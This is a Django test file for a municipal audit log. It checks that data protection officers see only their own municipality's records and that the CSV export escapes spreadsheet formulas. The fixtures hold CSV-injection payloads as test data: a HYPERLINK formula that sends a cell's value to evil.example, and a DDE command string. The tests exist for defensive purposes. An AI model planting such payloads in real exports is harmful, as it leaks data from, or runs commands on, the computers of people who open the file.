"""A DPO sees the audit records of their own municipality only (audit.selectors.Scope): on every
DPO page and API list, with 404 for another municipality's person or user; a shared DPO is
widened by AUDIT_DPO_MUNICIPALITIES. The CSV export neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import override_settings
from django.urls import reverse

from accounts.models import User
from audit.models import AccessEvent, Disclosure
from audit.services import access_record, append
from audit.views import csv_cell
from persons.models import FocusPerson
from tests.factories import AgencyFactory, MunicipalityFactory, UserFactory
from tests.world import World

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Klik her")'


def _viewed(user: User, person_ids: list[int]) -> None:
    """A person view of ``user``'s agency, written as the service writes it."""
    append(
        AccessEvent(
            actor=user,
            actor_agency_id=user.agency_id,
            action=AccessEvent.Action.VIEW_PERSON,
            person_ids=person_ids,
            person_pseudonyms=[f"P-{pid}" for pid in person_ids],
        )
    )


@pytest.fixture
def trail(world: World) -> World:
    """The world's municipality reads, searches and discloses; one user looks at 30 persons."""
    access_record(actor=world.school_member, action="view_person", objects=[world.person])
    access_record(
        actor=world.police_member,
        action=AccessEvent.Action.SEARCH,
        model=FocusPerson,
        search_criterion=HYPERLINK,
        reason="+cmd|' /C calc'!A0",
    )
    _viewed(world.school_member, list(range(1000, 1030)))
    _viewed(world.police_member, [1000])
    _viewed(world.coordinator, [1001])
    assert Disclosure.objects.filter(person_id=world.person.pk).exists()  # the shared note
    return world


@pytest.fixture
def other_dpo() -> User:
    aarhus = MunicipalityFactory.create(code="751", name="Aarhus")
    agency = AgencyFactory.create(name="Aarhus Kommune", municipality=aarhus)
    return UserFactory.create(full_name="Dagny Anden-DPO", agency=agency, roles=["dpo"])


def pages(world: World) -> dict[str, str]:
    return {
        "dashboard": reverse("audit:dashboard"),
        "access list": reverse("audit:access-list"),
        "access list filtered": reverse("audit:access-list") + f"?person={world.person.pseudonym}",
        "access csv": reverse("audit:access-list") + "?format=csv",
        "unusual": reverse("audit:unusual"),
        "spot check": reverse("audit:spot-check"),
    }


API_LISTS = ("api:audit-access-events", "api:audit-disclosures", "api:audit-searches")


def body(response: Any) -> str:
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content).decode()
    return str(response.content.decode())


def world_marks(world: World) -> list[str]:
    """What would betray the world's records on a page: its pseudonym and its users' names."""
    return [
        world.person.pseudonym,
        world.school_member.full_name,
        world.police_member.full_name,
        world.coordinator.full_name,
        "Skolen",
        "Politiet",
    ]


def test_another_municipalitys_dpo_sees_none_of_the_worlds_records(trail, other_dpo, client):
    client.force_login(other_dpo)

    for name, url in pages(trail).items():
        response = client.get(url)
        assert response.status_code == 200, name
        text = body(response)
        marks = world_marks(trail)
        if name == "access list filtered":  # the form and the CSV link echo the pseudonym
            assert response.context["page"]["rows"] == []
            marks.remove(trail.person.pseudonym)
        for mark in marks:
            assert mark not in text, (name, mark)
    dashboard = client.get(reverse("audit:dashboard"))
    assert dashboard.context["counts"] == {}
    assert client.get(reverse("audit:unusual")).context["users"] == []
    assert client.get(reverse("audit:spot-check")).context["sample"] == []
    csv_rows = list(csv.reader(io.StringIO(body(client.get(pages(trail)["access csv"])))))
    assert len(csv_rows) == 1  # the header only
    for route in API_LISTS:
        response = client.get(reverse(route))
        assert response.status_code == 200, route
        assert response.json()["results"] == [], route


def test_another_municipalitys_person_and_user_are_404_like_unknown_ones(trail, other_dpo, client):
    client.force_login(other_dpo)
    person = trail.person

    for url in (
        reverse("audit:person-history", args=[person.pseudonym]),
        reverse("audit:person-history", args=[str(person.pk)]),
        reverse("audit:person-history", args=["ZZZZ-9999"]),  # unknown
        reverse("audit:user-history", args=[trail.school_member.pk]),
        reverse("audit:user-history", args=[999_999]),  # unknown
    ):
        assert client.get(url).status_code == 404, url
    event = AccessEvent.objects.filter(actor=trail.school_member).first()
    assert event is not None
    review = client.post(reverse("audit:spot-check-review", args=[event.pk]), {"finding": "ok"})
    assert review.status_code == 404
    assert not hasattr(AccessEvent.objects.get(pk=event.pk), "spot_check")
    for route, key in (("api:audit-access-events", "person"), ("api:audit-disclosures", "person")):
        response = client.get(reverse(route), {key: person.pseudonym})
        assert response.json()["results"] == [], route


def test_the_worlds_dpo_still_sees_them(trail, client):
    client.force_login(trail.dpo)

    listing = body(client.get(pages(trail)["access list"]))
    assert trail.person.pseudonym in listing
    assert trail.school_member.full_name in listing
    assert client.get(reverse("audit:dashboard")).context["counts"]["view_person"] >= 4
    unusual = client.get(reverse("audit:unusual")).context["users"]
    assert [u.user for u in unusual] == [trail.school_member]
    assert client.get(reverse("audit:spot-check")).context["sample"]
    history = client.get(reverse("audit:person-history", args=[trail.person.pseudonym]))
    assert history.status_code == 200
    assert history.context["disclosures"]
    assert history.context["accesses"]
    assert (
        client.get(reverse("audit:user-history", args=[trail.school_member.pk])).status_code == 200
    )
    for route in API_LISTS:
        assert client.get(reverse(route)).json()["results"], route


def test_the_filter_form_offers_only_the_dpos_own_users_and_agencies(trail, other_dpo, client):
    client.force_login(other_dpo)
    form = client.get(reverse("audit:access-list")).context["form"]

    assert set(form.fields["user"].queryset) == {other_dpo}
    assert set(form.fields["agency"].queryset) == {other_dpo.agency}


def test_a_shared_dpo_is_widened_by_the_setting(trail, other_dpo, client):
    client.force_login(other_dpo)
    url = reverse("api:audit-access-events")

    with override_settings(AUDIT_DPO_MUNICIPALITIES={other_dpo.email: frozenset({"101"})}):
        widened = client.get(url).json()["results"]
        history = client.get(reverse("audit:person-history", args=[trail.person.pseudonym]))
    with override_settings(AUDIT_DPO_MUNICIPALITIES={other_dpo.email: frozenset({"*"})}):
        everything = client.get(url).json()["results"]
    with override_settings(AUDIT_DPO_MUNICIPALITIES={"someone@else.dk": frozenset({"*"})}):
        own = client.get(url).json()["results"]

    assert {row["actor"] for row in widened} >= {trail.school_member.pk, trail.police_member.pk}
    assert history.status_code == 200
    assert len(everything) == len(widened)
    assert own == []


# --- CSV export: no formulas into the DPO's spreadsheet ------------------------------------


def test_csv_cells_that_start_a_formula_are_neutralised(trail, client):
    client.force_login(trail.dpo)

    response = client.get(reverse("audit:access-list") + "?action=search&format=csv")

    rows = list(csv.DictReader(io.StringIO(body(response))))
    [row] = [r for r in rows if "HYPERLINK" in r["søgekriterium"]]
    assert row["søgekriterium"] == "'" + HYPERLINK
    assert row["begrundelse"] == "'+cmd|' /C calc'!A0"
    for value in (v for r in rows for v in r.values()):
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+45 12345678", "'+45 12345678"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("K7QM-0042", "K7QM-0042"),
        ("", ""),
        (-3, -3),
        (42, 42),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected
